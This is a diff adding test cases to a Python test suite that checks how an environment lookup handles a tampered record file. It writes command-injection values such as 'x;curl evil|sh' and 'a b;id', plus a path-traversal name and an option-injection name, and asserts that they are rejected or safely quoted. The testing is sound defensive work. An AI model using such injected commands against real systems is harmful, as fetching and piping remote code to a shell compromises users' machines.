@@ -452,6 +452,16 @@ def test_what_a_folder_is_on_top_of_must_be_there(toy: ModuleReceipt, prefix: Pr
     with pytest.raises(HostProblem, match="others can change it"):
         installed.find(prefix, str(own))
     own.chmod(0o755)
+    known = json.loads((own / venv.RECORD).read_text())
+    for name in ("x;curl evil|sh", "../up", "-x"):
+        (own / venv.RECORD).write_text(json.dumps({**known, "name": name}))
+        with pytest.raises(EnvironmentDamaged, match="cannot be used") as named:
+            installed.find(prefix, str(own))
+        assert name in named.value.why and name not in named.value.fix
+    (own / venv.RECORD).write_text(json.dumps({**known, "name": "gone", "tree": f"{tmp_path}/a b;id/x86_64"}))
+    with pytest.raises(EnvironmentMissing) as gone:
+        installed.find(prefix, str(own))
+    assert gone.value.fix.endswith(f"--prefix '{tmp_path}/a b;id'")
     (own / venv.RECORD).write_text("{}")
     with pytest.raises(EnvironmentDamaged):
         installed.find(prefix, str(own))
